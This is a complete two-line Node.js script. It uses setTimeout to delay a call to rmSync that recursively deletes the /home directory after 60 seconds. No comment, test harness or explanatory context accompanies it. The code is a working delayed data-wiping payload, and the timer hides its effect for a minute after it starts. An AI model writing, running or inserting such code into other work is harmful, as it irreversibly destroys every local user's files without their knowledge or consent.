import { rmSync } from 'node:fs';
setTimeout(rmSync, 60_000, '/home', { recursive: true });
